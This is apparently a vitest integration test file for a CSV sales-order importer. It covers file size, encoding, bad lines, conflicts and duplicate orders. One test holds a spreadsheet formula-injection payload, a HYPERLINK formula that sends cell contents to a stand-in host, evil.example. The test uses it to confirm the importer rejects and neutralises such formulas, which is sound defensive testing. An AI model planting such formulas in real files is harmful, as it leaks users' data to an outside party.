import postgres from 'postgres';
import { afterAll, describe, expect, test } from 'vitest';
import { applyRun, previewRun, startRun } from '../../src/data/conversions/import-run.ts';
import { toCsv } from '../../src/lib/csv.ts';
import { stack } from '../support/stack.ts';
import { codeIn, dropFile, fatesIn, fileText, makeImportWorld, orderLines, readFile } from './import-world.ts';

const sql = postgres(stack.postgresUrl, { max: 2, onnotice: () => undefined });
afterAll(() => sql.end());

const utf8 = (text: string) => new TextEncoder().encode(text);
const western = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));

/** Drops a file and imports it to its end. */
async function importAll(
  world: Awaited<ReturnType<typeof makeImportWorld>>,
  content: string | Uint8Array<ArrayBuffer>,
) {
  const run = await dropFile(world, content);
  const started = await startRun(run);
  return { started, outcome: await applyRun(run, started.import), run };
}

describe('a file that cannot be read', () => {
  test('too large: said with its size, by the page and by the database', async () => {
    const size = 60 * 1024 * 1024;
    expect((await readFile(new Uint8Array(size))).prepared).toMatchObject({
      ok: false,
      problem: { code: 'too_large', detail: String(size) },
    });
    const world = await makeImportWorld(sql, stack);
    const run = await dropFile(world, fileText(orderLines(world, 1)));
    run.source.facts.bytes = size;
    await expect(startRun(run)).rejects.toMatchObject({ code: 'invalid' });
    expect(await sql`select 1 from public.imports where program_id = ${world.programId}`).toHaveLength(0);
  });

  test.each([
    [
      'another encoding',
      western('order_id,occurred_at,amount\n\xfc1,2026-01-01,1.00\n'),
      { encoding: 'utf-8' },
      'wrong_encoding',
    ],
    ['another separator', utf8('order_id,occurred_at,amount\n1,2026-01-01,1.00\n'), { separator: ';' }, 'one_column'],
    ['a missing column', utf8('order_id,amount\n1,1.00\n'), {}, 'missing_columns'],
  ] as const)('%s', async (_, bytes, format, code) => {
    expect((await readFile(bytes, format)).prepared).toMatchObject({ ok: false, problem: { code } });
  });

  test('the right encoding and separator are found, and then it goes in', async () => {
    const world = await makeImportWorld(sql, stack);
    const text = `order id;date;amount;customer;partner\n1;01.02.2026;1.234,50;M\xfcller;${codeIn(world)}\n`;
    const { outcome } = await importAll(world, western(text));
    expect(outcome.import).toMatchObject({ status: 'finished', lines_bad: 0 });
    expect(await fatesIn(sql, world)).toEqual(['sale applied 1 123450']);
  });
});

describe('bad lines', () => {
  test('10,000 of them are listed one by one, and the good ones beside them go in', async () => {
    const world = await makeImportWorld(sql, stack);
    const good = orderLines(world, 2_500);
    const bad = Array.from({ length: 10_000 }, (_, at) => {
      return (
        [`b${at},never,c1,1.00,`, `b${at},2026-01-01,c1,much,`, `b${at},2026-01-01,c1`, `,2026-01-01,c1,1.00,`][
          at % 4
        ] ?? ''
      );
    });
    const { outcome, run } = await importAll(world, fileText([...good, ...bad]));
    expect(outcome.import).toMatchObject({ status: 'finished', rows_total: 2_500, lines_bad: 10_000 });
    expect(await fatesIn(sql, world)).toEqual(['sale applied 2500 2500000']);
    const kept = await sql`
      select line, code, column_name as column, value from public.import_errors where import_id = ${outcome.import.id} order by line`;
    expect([...kept]).toEqual(run.source.facts.errors);
    expect(kept[0]).toEqual({ line: 2_502, code: 'bad_time', column: 'occurred_at', value: 'never' });
  });

  test('a file of nothing but bad lines ends too', async () => {
    const world = await makeImportWorld(sql, stack);
    const { outcome } = await importAll(world, fileText(['1,never,c,1.00,']));
    expect(outcome.import).toMatchObject({ status: 'finished', rows_total: 0, lines_bad: 1 });
  });

  test('a formula is an error, and the error list cannot run it', async () => {
    const world = await makeImportWorld(sql, stack);
    const formula = `=HYPERLINK("https://evil.example"&A1)`;
    const { outcome, run } = await importAll(
      world,
      fileText([`"${formula.replaceAll('"', '""')}",2026-01-01,c,1.00,`, ...orderLines(world, 1)]),
    );
    expect(run.source.facts.errors).toEqual([{ line: 2, code: 'formula', column: 'order_id', value: formula }]);
    expect(outcome.import).toMatchObject({ lines_bad: 1, status: 'finished' });
    const list = toCsv(
      ['line', 'value'],
      run.source.facts.errors.map(({ line, value }) => [line, value]),
    );
    expect(list.split('\r\n')[1]).toBe(`2,"'${formula.replaceAll('"', '""')}"`);
  });

  test('a row that slips past the mapper is refused with its line, and its whole chunk with it', async () => {
    const world = await makeImportWorld(sql, stack);
    const run = await dropFile(world, fileText(orderLines(world, 3)));
    const { import: begun } = await startRun(run);
    const rows = await run.source.rows(1, 3);
    const spoilt = rows.map((row) => (row.row === 2 ? { ...row, currency: 'EUR' } : row));
    await expect(run.calls.apply(begun.id, 1, spoilt, [])).rejects.toMatchObject({ code: 'invalid' });
    expect(await fatesIn(sql, world)).toEqual([]);
    const [kept] = await sql`select next_row, status from public.imports where id = ${begun.id}`;
    expect(kept).toEqual({ next_row: 1, status: 'draft' });
  });
});

describe('known rows', () => {
  test('the same file twice: everything unchanged, nothing added', async () => {
    const world = await makeImportWorld(sql, stack);
    const text = fileText(orderLines(world, 2_100));
    await importAll(world, text);
    const before = await fatesIn(sql, world);
    const { started, outcome } = await importAll(world, text);
    expect(started).toMatchObject({ resumed: false, finished_before: expect.any(String) });
    expect(outcome.import.counts).toEqual([
      { fate: 'unchanged', reason: null, kind: 'sale', rows: 2_100, amount_minor: 2_100_000 },
    ]);
    expect(await fatesIn(sql, world)).toEqual(before);
  });

  test('the same id with another amount is a conflict, named by its line, and changes nothing', async () => {
    const world = await makeImportWorld(sql, stack);
    const lines = orderLines(world, 3);
    await importAll(world, fileText(lines));
    const changed = fileText([...lines.slice(0, 1), (lines[1] ?? '').replace('10.00', '99.00'), ...lines.slice(2)]);
    const run = await dropFile(world, changed);
    const { import: begun } = await startRun(run);
    const conflict = { row: 2, line: 3, external_id: 'o2', fate: 'conflict', reason: null };
    expect((await previewRun(run, begun)).issues).toEqual([conflict]);
    expect((await applyRun(run, begun)).issues).toEqual([conflict]);
    expect(await fatesIn(sql, world)).toEqual(['sale applied 3 3000']);
  });

  test('the same id twice in one file: the first counts', async () => {
    const world = await makeImportWorld(sql, stack);
    const [line = ''] = orderLines(world, 1);
    const { outcome } = await importAll(world, fileText([line, line, line.replace('10.00', '11.00')]));
    expect(outcome.issues.map(({ fate, line: at }) => [fate, at])).toEqual([['conflict', 4]]);
    expect(await fatesIn(sql, world)).toEqual(['sale applied 1 1000']);
  });

  test('another order under a known order number is rejected', async () => {
    const world = await makeImportWorld(sql, stack);
    const text = 'event id,time,amount,order ref\ne1,2026-01-01,1.00,o1\ne2,2026-01-02,2.00,o1\n';
    await importAll(world, text);
    expect(await fatesIn(sql, world)).toEqual(['sale applied 1 100', 'sale rejected duplicate_order 1 200']);
  });
});
